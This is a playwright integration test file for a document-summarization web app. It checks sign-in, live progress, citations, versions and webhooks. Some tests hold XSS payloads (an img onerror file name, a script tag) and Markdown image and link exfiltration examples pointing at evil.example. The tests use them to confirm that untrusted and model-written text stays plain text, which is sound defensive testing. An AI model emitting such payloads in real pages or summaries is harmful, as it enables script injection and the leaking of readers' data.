"""The web page, in a real browser (Debian's Chromium driven by playwright): sign in, upload real
documents, watch the bars fill live, pause and resume, reload mid-task, read the summaries — and a
hostile file name and summary stay text; open the passage a summary sentence quotes, with its page.

The live page runs on the services as processes on Kafka (the session's stack); the tests of what one
sentence or one format shows run on the in-process pipeline (tests/inprocess.py).

Screenshots (just submitted, mid-way, finished) go to the test's tmp dir and to .run/screenshots/.
"""

from __future__ import annotations

import html
import json
import re
import shutil
import subprocess
import uuid
from pathlib import Path
from typing import Any

import asyncpg
import httpx
import pytest

from docsum_shared.outbox import WebhookEvent, task_event
from docsum_shared.states import TASK_FINAL
from tests.documents import english_prose
from tests.integration.conftest import ROOT, AnyStack, Stack, StackFactory
from tests.integration.helpers import eventually, get_task, submit, txt, wait_for_task
from tests.integration.test_versions import one_chunk_edited
from tests.lossy_proxy import LossyProxy
from tests.webhook_receiver import serving

pytestmark = pytest.mark.integration

HOSTILE_NAME = "<img src=x onerror=window.__pwned=1>.txt"
HOSTILE_TEXT = "<script>window.__pwned=2</script> is what this note starts with. " + "It says little else. " * 20
SHOTS = ROOT / ".run" / "screenshots"


@pytest.fixture(scope="module")
def chromium() -> str:
    """Debian's Chromium, installed by the project's script when missing."""
    done = subprocess.run([str(ROOT / "scripts" / "chromium.sh")], check=True, capture_output=True, text=True)
    return done.stdout.strip()


def test_the_page_summarizes_documents_live(stack: Stack, llm, chromium: str, tmp_path: Path) -> None:
    from playwright.sync_api import expect, sync_playwright

    page_headers = httpx.get(stack.gateway_url + "/").headers
    assert "script-src 'self'" in page_headers["content-security-policy"]
    assert page_headers["x-content-type-options"] == "nosniff"

    hostile = tmp_path / HOSTILE_NAME
    hostile.write_text(HOSTILE_TEXT)
    files = [str(ROOT / "examples" / "python-language-reference.docx"), str(ROOT / "examples" / "chinese-essay.txt")]
    llm.llm.configure(latency_s=1.2)  # slow enough to pause, reload and look mid-way
    shots: list[Path] = []
    try:
        with sync_playwright() as p:
            browser = _launch(p, chromium)
            # Reduced motion: the bars jump to their value, so a screenshot shows what the figures say.
            page = browser.new_page(viewport={"width": 1180, "height": 1000}, reduced_motion="reduce")
            errors: list[str] = []
            page.on("pageerror", lambda e: errors.append(str(e)))
            page.goto(stack.gateway_url + "/")

            expect(page.locator("#sign-out")).to_be_hidden()  # nobody is signed in
            page.fill("#api-key", "not-a-key-of-anyone")
            page.click("#signin-button")
            expect(page.locator("#signin-error")).to_contain_text("not accepted")
            expect(page.locator("#sign-out")).to_be_hidden()
            page.fill("#api-key", stack.keys["alice"])
            page.click("#signin-button")
            expect(page.locator("#sign-out")).to_be_visible()
            expect(page.locator("#task-list li").first).not_to_have_text("Loading…")  # the list answered

            page.set_input_files("#file-input", [*files, str(hostile)])
            expect(page.locator("#chosen-files li")).to_have_count(3)
            page.fill("#title", "Reading for Monday")
            page.click("#submit")
            page.wait_for_url("**/tasks/*")
            expect(page.locator("#documents article")).to_have_count(3)
            shots.append(_shot(page, tmp_path, "1-submitted"))

            page.click("#pause")
            expect(page.locator("#task-status")).to_have_text("Paused", timeout=20_000)
            page.reload()  # the page picks up where the task is: the same task, paused, bars kept
            expect(page.locator("#task-title")).to_have_text("Reading for Monday")
            expect(page.locator("#task-status")).to_have_text("Paused")
            expect(page.locator("#resume")).to_be_enabled()
            page.click("#resume")
            expect(page.locator("#task-status")).to_have_text("Working", timeout=20_000)
            mid_way = "() => { const n = parseInt(document.querySelector('#task-percent').textContent); return n > 10 }"
            page.wait_for_function(mid_way, timeout=60_000)
            shots.append(_shot(page, tmp_path, "2-mid-way"))
            page.reload()
            expect(page.locator("#documents article")).to_have_count(3)
            llm.llm.configure(latency_s=0.0)  # seen mid-way: the rest need not be slow

            expect(page.locator("#task-status")).to_have_text("Done", timeout=120_000)
            expect(page.locator("#task-percent")).to_have_text("100%")
            for article in page.locator("#documents article").all():
                expect(article.locator(".summary")).not_to_be_empty()
                assert article.get_attribute("data-document")
            expect(page.locator("#task-summary")).not_to_be_empty()
            expect(page.locator("#activity li").first).to_contain_text("Task finished")

            # The hostile name and summary are text: no element was made of them, no script ran.
            hostile_doc = page.locator("#documents article", has_text="onerror")
            expect(hostile_doc.locator(".fname")).to_have_text(HOSTILE_NAME)
            expect(hostile_doc.locator(".summary")).to_contain_text("<script>window.__pwned=2</script>")
            assert page.locator("#documents img, #documents script").count() == 0
            assert page.evaluate("() => window.__pwned") is None

            with page.expect_download() as download:
                page.click("#download-md")
            markdown = Path(download.value.path()).read_text()
            assert "# Reading for Monday" in markdown and "## chinese-essay.txt" in markdown
            shots.append(_shot(page, tmp_path, "3-finished"))
            page.set_viewport_size({"width": 390, "height": 844})  # a phone: one column, nothing wider
            assert page.evaluate("() => document.documentElement.scrollWidth") <= 390
            shots.append(_shot(page, tmp_path, "4-phone", full_page=False))
            assert not errors, errors
            browser.close()
    finally:
        llm.llm.configure(latency_s=0.0)
    SHOTS.mkdir(parents=True, exist_ok=True)
    for shot in shots:
        shutil.copy(shot, SHOTS / shot.name)
    print(f"\nscreenshots: {', '.join(str(SHOTS / s.name) for s in shots)}")


def test_a_sentence_opens_the_passage_it_quotes(make_stack: StackFactory, chromium: str, tmp_path: Path) -> None:
    """The built-in extractive backend, end to end: its summary's sentences show their pages, and a
    sentence, clicked or opened from the keyboard, shows the passage of the document it quotes."""
    from playwright.sync_api import expect, sync_playwright

    stack = make_stack.in_process(DOCSUM_LLM_BACKEND="extractive")
    with sync_playwright() as p:
        browser = _launch(p, chromium)
        page = browser.new_page(viewport={"width": 1180, "height": 1000}, reduced_motion="reduce")
        errors: list[str] = []
        page.on("pageerror", lambda e: errors.append(str(e)))
        page.goto(stack.gateway_url + "/")
        page.fill("#api-key", stack.keys["alice"])
        page.click("#signin-button")
        expect(page.locator("#sign-out")).to_be_visible()
        page.set_input_files("#file-input", [str(ROOT / "examples" / "kafka-overview.pdf")])
        page.click("#submit")
        page.wait_for_url("**/tasks/*")
        expect(page.locator("#task-status")).to_have_text("Done", timeout=120_000)

        sentence = page.locator("#documents article .sentence.linked").first
        expect(sentence).to_be_visible(timeout=20_000)  # the finished task's view, read again, has them
        expect(page.locator("#documents article .cite").first).to_have_text(re.compile(r"^p\. \d+"))
        said = sentence.inner_text()
        sentence.click()
        dialog = page.locator("#source-dialog")
        expect(dialog).to_be_visible()
        where = dialog.locator(".passage .where").first
        expect(where).to_have_text(re.compile(r"^kafka-overview\.pdf, p\. \d+"))
        passage = dialog.locator(".passage .quote").first.inner_text()
        assert _words(said) and _words(said) <= _words(passage) | _words(re.sub(r"-\n\s*", "", passage)), (
            said,
            passage,
        )
        _shot(page, tmp_path, "5-source")
        page.keyboard.press("Escape")
        expect(dialog).to_be_hidden()

        sentence.focus()  # the same from the keyboard
        page.keyboard.press("Enter")
        expect(dialog).to_be_visible()
        expect(page.locator("#source-close")).to_be_focused()
        page.keyboard.press("Enter")  # Close
        expect(dialog).to_be_hidden()

        with page.expect_download() as download:
            page.click("#download-md")
        markdown = Path(download.value.path()).read_text()
        assert "[^1]" in markdown and re.search(r"^\[\^1\]: kafka-overview\.pdf, p\. \d+", markdown, re.M), markdown
        assert not errors, errors
        browser.close()


def test_slides_pages_and_books_are_offered_and_cited_by_their_units(
    make_stack: StackFactory, chromium: str, tmp_path: Path
) -> None:
    """The file picker offers presentations, web pages and e-books, and a presentation's summary shows
    each sentence's slide ("slide 2"), in the page and in the passage it opens."""
    from playwright.sync_api import expect, sync_playwright

    from tests.documents import Slide, english_prose, make_pptx

    deck = tmp_path / "deck.pptx"
    deck.write_bytes(
        make_pptx([Slide(title=f"Part {n}", texts=[english_prose(700, seed=260 + n)]) for n in range(1, 4)])
    )
    stack = make_stack.in_process(DOCSUM_LLM_BACKEND="extractive")
    with sync_playwright() as p:
        browser = _launch(p, chromium)
        page = browser.new_page(viewport={"width": 1180, "height": 1000}, reduced_motion="reduce")
        errors: list[str] = []
        page.on("pageerror", lambda e: errors.append(str(e)))
        page.goto(stack.gateway_url + "/")
        page.fill("#api-key", stack.keys["alice"])
        page.click("#signin-button")
        expect(page.locator("#sign-out")).to_be_visible()
        accept = (page.locator("#file-input").get_attribute("accept") or "").split(",")
        assert {".pptx", ".html", ".htm", ".epub"} <= set(accept), accept
        page.set_input_files("#file-input", [str(deck)])
        page.click("#submit")
        page.wait_for_url("**/tasks/*")
        expect(page.locator("#task-status")).to_have_text("Done", timeout=120_000)

        expect(page.locator("#documents article .sentence.linked").first).to_be_visible(timeout=20_000)
        expect(page.locator("#documents article .cite").first).to_have_text(re.compile(r"^slides? \d+"))
        page.locator("#documents article .sentence.linked").first.click()
        where = page.locator("#source-dialog .passage .where").first
        expect(where).to_have_text(re.compile(r"^deck\.pptx, slides? \d+"))
        assert not errors, errors
        browser.close()


# What a model can be told to write into a summary, and a person into a title or a file name: in the
# Markdown download each must stay text — no image (fetched from its server when the file is viewed), no
# link, no HTML, no heading of its own.
LEAKS = "![](https://evil.example/leak.png?q=secret)"
HOSTILE_SUMMARY = f"""Rain fell in May. {LEAKS} See [the report](https://evil.example/r) or <https://evil.example/a>.

<img src="https://evil.example/i.png">

# Not a heading

Nor this
===

Nor this one
---

[ref]: https://evil.example/ref
&lt;b&gt; and a trailing backslash \\

- one point
- another"""
HOSTILE_TASK: dict[str, Any] = {
    "task_id": "t1",
    "title": "![t](https://evil.example/t.png) <b>Q3</b>",
    "status": "COMPLETED_WITH_ERRORS",
    "summary": HOSTILE_SUMMARY,
    "sentences": [
        {"text": "Rain fell in May.", "support": "cited", "at": [0, 17], "sources": [{
            "document_id": "d1", "filename": "[x](https://evil.example/n).pdf", "unit": "page", "page": 3,
            "last_page": 3, "start": 0, "end": 9,
        }]},
    ],
    "documents": [
        {"document_id": "d1", "filename": "[x](https://evil.example/n).pdf", "status": "COMPLETED",
         "summary": HOSTILE_SUMMARY, "sentences": None, "error": None},
        {"document_id": "d2", "filename": "<img src=x>\n# two.txt", "status": "FAILED", "summary": None,
         "sentences": None, "error": "bad ![e](https://evil.example/e.png)"},
    ],
}  # fmt: skip


def test_the_markdown_download_keeps_what_others_wrote_as_text(chromium: str) -> None:
    """The page's own asMarkdown (app.js, in the browser), rendered by a CommonMark parser (markdown-it-py):
    the headings are the page's own, with the title and file names as text; no image, no HTML; the only
    links are the footnote markers (plain CommonMark reads `[^1]` as a reference to its note); and what was
    written shows as it was, list items still a list."""
    from markdown_it import MarkdownIt
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = _launch(p, chromium)
        page = browser.new_page()
        page.set_content("<!doctype html><html><body></body></html>")
        page.add_script_tag(path=str(ROOT / "services" / "gateway" / "docsum_gateway" / "static" / "app.js"))
        markdown = page.evaluate("(task) => asMarkdown(task)", HOSTILE_TASK)
        browser.close()

    tokens = MarkdownIt("commonmark").parse(markdown)
    inline = [child for token in tokens for child in (token.children or [])]
    kinds = {t.type for t in [*tokens, *inline]}
    assert not kinds & {"image", "html_block", "html_inline"}, markdown
    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
    title, files = HOSTILE_TASK["title"], [d["filename"] for d in HOSTILE_TASK["documents"]]
    shown = MarkdownIt("commonmark").renderInline
    assert [html.unescape(re.sub("<[^>]+>", "", shown(h))) for h in headings] == [
        title,
        "Summary",
        files[0],
        files[1].replace("\n", " "),
    ], markdown
    links = [inline[i + 1].content for i, t in enumerate(inline) if t.type == "link_open"]
    assert all(re.fullmatch(r"\^\d+", text) for text in links), (links, markdown)
    rendered = html.unescape(MarkdownIt("commonmark").render(markdown))
    for text in (
        LEAKS,
        "[the report](https://evil.example/r)",
        "<https://evil.example/a>",
        "# Not a heading",
        "&lt;b&gt; and a trailing backslash \\",
        "bad ![e](https://evil.example/e.png)",
    ):
        assert text in rendered, text
    assert "<li>one point</li>" in rendered  # the summary's own list is still one


def _words(text: str) -> set[str]:
    """The words of a text, lower-case (a passage's word broken at a line end counts joined and apart: the
    summary may join it, with or without its hyphen)."""
    return set(re.findall(r"\w+", text.lower()))


CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync"]  # fmt: skip


def _launch(p, chromium: str):  # type: ignore[no-untyped-def]
    return p.chromium.launch(executable_path=chromium, headless=True, args=CHROMIUM_ARGS)


def _shot(page, tmp_path: Path, name: str, full_page: bool = True) -> Path:  # type: ignore[no-untyped-def]
    path = tmp_path / f"{name}.png"
    page.screenshot(path=str(path), full_page=full_page)
    return path


async def _webhooks_view(p, chromium: str, stack: AnyStack):  # type: ignore[no-untyped-def]
    """A browser signed in as alice on the Webhooks view, and the page errors it collects."""
    browser = await p.chromium.launch(executable_path=chromium, headless=True, args=CHROMIUM_ARGS)
    page = await browser.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    await page.goto(stack.gateway_url + "/")
    await page.fill("#api-key", stack.keys["alice"])
    await page.click("#signin-button")
    await page.click("#webhooks-link")
    await page.wait_for_url("**/webhooks")
    return browser, page, errors


def test_an_unsupported_sentence_is_marked_on_the_page_and_in_the_markdown(chromium: str) -> None:
    """The page's own showSummary and asMarkdown (app.js, with style.css, in the browser): a sentence that
    its sources do not support is marked as such — a class and a mark a reader sees, and "(unsupported)"
    in the download — and the others are not."""
    from playwright.sync_api import expect, sync_playwright

    static = ROOT / "services" / "gateway" / "docsum_gateway" / "static"
    summary = "Rain fell in May. Penguins juggle violet umbrellas."
    sentences = [
        {"text": "Rain fell in May.", "support": "cited", "at": [0, 17], "sources": [{
            "document_id": "d1", "filename": "report.pdf", "unit": "page", "page": 3, "last_page": 3,
            "start": 0, "end": 9}]},
        {"text": "Penguins juggle violet umbrellas.", "support": "unsupported", "at": [18, 51], "sources": []},
    ]  # fmt: skip
    task = {"task_id": "t1", "title": "Q3", "status": "COMPLETED", "summary": summary, "sentences": sentences,
            "documents": []}  # fmt: skip
    with sync_playwright() as p:
        browser = _launch(p, chromium)
        page = browser.new_page()
        page.set_content('<!doctype html><html><body><p id="summary"></p></body></html>')
        page.add_style_tag(path=str(static / "style.css"))
        page.add_script_tag(path=str(static / "app.js"))
        page.evaluate("([s, ss]) => showSummary(document.getElementById('summary'), s, ss, 't1')", [summary, sentences])
        marked = page.locator("#summary .sentence.unsupported")
        expect(marked).to_have_count(1)
        expect(marked).to_have_text("Penguins juggle violet umbrellas.")
        expect(marked).to_have_attribute("data-support", "unsupported")
        expect(page.locator("#summary sup.cite").last).to_have_text("unsupported")
        assert marked.evaluate("e => getComputedStyle(e).textDecorationStyle") == "wavy"  # seen, not only read
        assert (
            page.locator("#summary .sentence.cited").evaluate("e => getComputedStyle(e).textDecorationStyle") != "wavy"
        )
        markdown = page.evaluate("(task) => asMarkdown(task)", task)
        browser.close()
    assert "Penguins juggle violet umbrellas. (unsupported)" in markdown


async def test_a_new_version_shows_what_changed_first_and_marks_the_changed_sentence(
    pipeline: AnyStack, db: asyncpg.Pool, chromium: str, tmp_path: Path
) -> None:
    """A document submitted on the page, then a new version of it with one paragraph changed, named on the form
    as a new version of the first task: the new task's page shows, before the document's summary, what was
    reused and what changed (the changed sentence with what it was), and marks that sentence, and only it, in
    the summary."""
    from playwright.async_api import async_playwright, expect

    text = english_prose(20_000, seed=77)
    first_file, second_file = tmp_path / "first" / "plan.txt", tmp_path / "second" / "plan.txt"
    for path in (first_file, second_file):
        path.parent.mkdir()
    first_file.write_text(text)
    async with async_playwright() as p:
        browser = await p.chromium.launch(executable_path=chromium, headless=True, args=CHROMIUM_ARGS)
        page = await browser.new_page(viewport={"width": 1180, "height": 1000}, reduced_motion="reduce")
        errors: list[str] = []
        page.on("pageerror", lambda e: errors.append(str(e)))
        await page.goto(pipeline.gateway_url + "/")
        await page.fill("#api-key", pipeline.keys["alice"])
        await page.click("#signin-button")
        await page.set_input_files("#file-input", [str(first_file)])
        await page.click("#submit")
        await page.wait_for_url("**/tasks/*")
        first_id = page.url.rsplit("/", 1)[1]
        await expect(page.locator("#task-status")).to_have_text("Done", timeout=120_000)
        await expect(page.locator("#documents .changes")).to_be_hidden()  # the first version: nothing to compare

        async with pipeline.client("alice") as client:
            first = await get_task(client, first_id)
        edited, changed = await one_chunk_edited(db, first, text, "revised")
        second_file.write_text(edited)
        await page.goto(pipeline.gateway_url + "/")
        await page.set_input_files("#file-input", [str(second_file)])
        await page.select_option("#previous-task", first_id)
        await page.click("#submit")
        await page.wait_for_url("**/tasks/*")
        await expect(page.locator("#task-status")).to_have_text("Done", timeout=120_000)

        article = page.locator("#documents article")
        changes = article.locator(".changes")
        await expect(changes).to_be_visible(timeout=20_000)
        await expect(changes.locator("h3")).to_have_text("What changed since the previous version")
        await expect(changes.locator(".reuse")).to_contain_text(
            re.compile(r"Reused: \d+ of \d+ chunk summaries reused")
        )
        listed = changes.locator("li")
        await expect(listed).to_have_count(1)
        await expect(listed.first).to_have_attribute("data-change", "changed")
        await expect(listed.first).to_contain_text(changed)
        await expect(listed.first.locator(".was")).to_contain_text("was: ")
        await expect(listed.first.locator(".was")).not_to_contain_text("revised")
        marked = article.locator(".summary .sentence[data-change=changed]")
        await expect(marked).to_have_count(1)
        await expect(marked).to_contain_text(changed)
        await expect(article.locator(".summary sup.change")).to_have_count(1)
        # The summary reads as the view has it: only its marks and citations (sup) are added.
        words = (
            "(n) => { const c = n.cloneNode(true); c.querySelectorAll('sup').forEach((s) => s.remove());"
            " return c.textContent }"
        )
        async with pipeline.client("alice") as client:
            second = await get_task(client, page.url.rsplit("/", 1)[1])
        assert await article.locator(".summary").evaluate(words) == second["documents"][0]["summary"]
        unchanged = await article.locator(".summary .sentence[data-change=unchanged]").count()
        assert unchanged >= 5
        # The changes first: the list comes before the summary on the page.
        assert await changes.evaluate("(n) => !!(n.compareDocumentPosition(n.parentNode.querySelector('.summary'))"
                                      " & Node.DOCUMENT_POSITION_FOLLOWING)")  # fmt: skip
        _shot_async = tmp_path / "6-new-version.png"
        await page.screenshot(path=str(_shot_async), full_page=True)
        assert not errors, errors
        await browser.close()
    SHOTS.mkdir(parents=True, exist_ok=True)
    shutil.copy(_shot_async, SHOTS / _shot_async.name)


async def test_the_page_submits_again_with_its_key_after_a_lost_answer(
    make_stack: StackFactory, chromium: str, tmp_path: Path
) -> None:
    """The page's first submission reaches the gateway, which makes the task, and its answer is lost (a
    proxy resets the connection instead of passing it on). Pressing "Summarize" again sends the same
    Idempotency-Key: the page opens the task the first press made, and there is one task."""
    from playwright.async_api import async_playwright, expect

    stack = make_stack.in_process(services=("gateway",))
    title = f"Lost answer {uuid.uuid4().hex[:8]}"
    note = tmp_path / "note.txt"
    note.write_text("The tide came in at dawn, and the boats went out with it.")
    keys: set[str] = set()

    def first_keyed(request: dict[str, str]) -> bool:
        key = request.get("idempotency-key")
        first = key is not None and key not in keys
        keys.add(key or "")
        return first

    port = int(stack.gateway_url.rsplit(":", 1)[1])
    async with LossyProxy(port, drop=first_keyed) as proxy, async_playwright() as p:
        browser = await p.chromium.launch(executable_path=chromium, headless=True, args=CHROMIUM_ARGS)
        page = await browser.new_page()
        await page.goto(proxy.url + "/")
        await page.fill("#api-key", stack.keys["alice"])
        await page.click("#signin-button")
        await expect(page.locator("#sign-out")).to_be_visible()
        await page.set_input_files("#file-input", [str(note)])
        await page.fill("#title", title)
        await page.click("#submit")
        await expect(page.locator("#submit-error")).to_be_visible()
        await page.click("#submit")
        await page.wait_for_url("**/tasks/*")
        opened = page.url.rsplit("/", 1)[1]
        await browser.close()

    posted = [e for e in proxy.exchanges if "idempotency-key" in e.head]
    assert len(posted) == 2 and posted[0].dropped and not posted[1].dropped
    assert posted[0].head["idempotency-key"] == posted[1].head["idempotency-key"]
    assert posted[1].headers["idempotent-replayed"] == "true" and posted[1].body == posted[0].body
    assert opened == posted[0].json()["task_id"]
    async with stack.client() as client:
        listed = (await client.get("/v1/tasks", params={"limit": 500})).json()
    assert [t["task_id"] for t in listed if t["title"] == title] == [opened]


async def test_the_page_shows_the_owners_webhooks_and_sends_a_delivery_again(
    make_stack: StackFactory, chromium: str
) -> None:
    """The page's Webhooks view: the owner's endpoint, its delivery (delivered, one attempt, its task), and
    "Send again", which sends it once more under the same webhook-id."""
    from playwright.async_api import async_playwright, expect

    with serving() as receiver:
        receiver.fail_first = 0
        stack = make_stack.in_process(
            None,
            twice=False,
            DOCSUM_INTAKE_OWNERS=json.dumps({"alice": {"http_hosts": ["127.0.0.1"], "http_ports": [receiver.port]}}),
            DOCSUM_WEBHOOK_POLL_S="0.2",
        )
        url = f"http://127.0.0.1:{receiver.port}/hook"
        async with stack.client("alice") as alice:
            hook = (await alice.post("/v1/webhooks", json={"url": url, "events": ["task.finished"]})).json()
            task_id = await submit(alice, [txt("note.txt", "The tide came in at dawn, and the boats went out.")])
            await wait_for_task(alice, task_id, stack)
            await eventually(lambda: len(receiver.delivered()) == 1, message="the delivery", stack=stack)
        async with async_playwright() as p:
            browser, page, errors = await _webhooks_view(p, chromium, stack)
            card = page.locator(f'[data-webhook="{hook["id"]}"]')
            await expect(card.locator("h2")).to_have_text(url)
            row = card.locator(".delivery").first
            await expect(row).to_contain_text("delivered")
            await expect(row).to_contain_text("1 attempt ")
            await expect(row.locator("a")).to_have_attribute("href", f"/tasks/{task_id}")
            await row.get_by_role("button", name="Send again").click()
            await eventually(lambda: len(receiver.received) == 2, message="the delivery sent again", stack=stack)
            await page.reload()
            await expect(card.locator(".delivery").first).to_contain_text("2 attempts", timeout=10_000)
            await browser.close()
        assert errors == []
    first, again = receiver.received
    assert first.headers["webhook-id"] == again.headers["webhook-id"] and first.body == again.body


async def test_the_page_adds_and_removes_an_owners_webhook(
    make_stack: StackFactory, chromium: str, db: asyncpg.Pool
) -> None:
    """The Webhooks view registers an endpoint (the events offered are the gateway's, every way a task ends
    checked), shows its secret once, says why a URL is refused, and removes an endpoint on a second press."""
    from playwright.async_api import async_playwright, expect

    with serving() as receiver:
        stack = make_stack.in_process(
            ("gateway",),
            twice=False,
            DOCSUM_INTAKE_OWNERS=json.dumps({"alice": {"http_hosts": ["127.0.0.1"], "http_ports": [receiver.port]}}),
        )
        url = f"http://127.0.0.1:{receiver.port}/hook"
        async with async_playwright() as p:
            browser, page, errors = await _webhooks_view(p, chromium, stack)
            await expect(page.locator("#no-webhooks")).to_be_visible()
            boxes = page.locator('#new-webhook input[name="events"]')
            offered = {await b.get_attribute("value"): await b.is_checked() for b in await boxes.all()}
            task_ends = {event.value for event in map(task_event, TASK_FINAL) if event is not None}
            assert set(offered) == {e.value for e in WebhookEvent}
            assert {e for e, checked in offered.items() if checked} == task_ends  # every way a task ends

            await page.fill("#webhook-url", f"http://127.0.0.1:{receiver.port + 1}/hook")  # a port not hers
            await page.click("#webhook-add")
            await expect(page.locator("#webhook-error")).to_contain_text("port")
            await page.fill("#webhook-url", url)
            await page.check("#webhook-only-named")
            await page.click("#webhook-add")
            shown = await page.locator("#webhook-secret-value").text_content()
            assert shown and shown.startswith("whsec_")
            async with stack.client("alice") as alice:
                (hook,) = (await alice.get("/v1/webhooks")).json()
            assert hook["url"] == url and set(hook["events"]) == task_ends and not hook["all_tasks"]
            assert await db.fetchval("SELECT secret FROM webhook_endpoints WHERE id = $1", hook["id"]) == shown
            card = page.locator(f'[data-webhook="{hook["id"]}"]')
            await expect(card.locator("h2")).to_have_text(url)
            SHOTS.mkdir(parents=True, exist_ok=True)
            await page.screenshot(path=str(SHOTS / "webhooks.png"), full_page=True)

            await card.locator("button.remove").click()
            await expect(card.locator("button.remove")).to_have_text("Remove for good?")
            async with stack.client("alice") as alice:
                assert len((await alice.get("/v1/webhooks")).json()) == 1  # the first press only asks
            await card.locator("button.remove").click()
            await expect(card).to_have_count(0)
            async with stack.client("alice") as alice:
                assert (await alice.get("/v1/webhooks")).json() == []
            await page.reload()
            await expect(page.locator("#no-webhooks")).to_be_visible()
            await browser.close()
        assert errors == []
    assert receiver.received == []  # registering and removing send nothing
